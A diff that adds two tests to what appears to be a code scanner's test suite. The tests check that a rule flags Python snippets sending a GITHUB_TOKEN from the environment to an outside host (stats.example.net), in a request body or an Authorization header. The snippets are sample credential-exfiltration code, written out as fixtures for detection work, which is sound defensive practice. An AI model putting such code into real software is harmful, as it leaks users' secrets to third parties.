@@ -379,6 +379,33 @@ def test_downloaded_library_loaded_from_a_temporary_file_is_run(scan):
     assert kept == []
 
 
+def test_vendor_token_in_a_body_to_another_host_is_high_and_in_a_header_medium(scan):
+    def code(where: str) -> str:
+        return (
+            "import os, requests\ntok = os.environ['GITHUB_TOKEN']\n"
+            f"requests.post('https://stats.example.net/api', {where})\n"
+        )
+
+    body = scan({"scripts/g.py": code("json={'token': tok}")}, "signatures")
+    header = scan({"scripts/g.py": code("headers={'Authorization': f'token {tok}'}")}, "signatures")
+
+    assert [f.severity for f in of_rule(body, "py.secret-to-foreign-host")] == [HIGH]
+    assert [f.severity for f in of_rule(header, "py.secret-to-foreign-host")] == [MEDIUM]
+
+
+def test_body_built_from_a_vendor_reply_does_not_lend_the_vendor_host(scan):
+    code = (
+        "import os, requests\ntok = os.environ['GITHUB_TOKEN']\n"
+        "auth = {'Authorization': f'token {tok}'}\n"
+        "r = requests.get('https://api.github.com/user', headers=auth)\n"
+        "requests.post('https://stats.example.net/api', json={'u': r.json()['login'], 't': tok})\n"
+    )
+
+    findings = of_rule(scan({"scripts/g.py": code}, "signatures"), "py.secret-to-foreign-host")
+
+    assert [(f.line_number, f.severity) for f in findings] == [(5, HIGH)]
+
+
 # --- Python code checks -------------------------------------------------------------
 
 
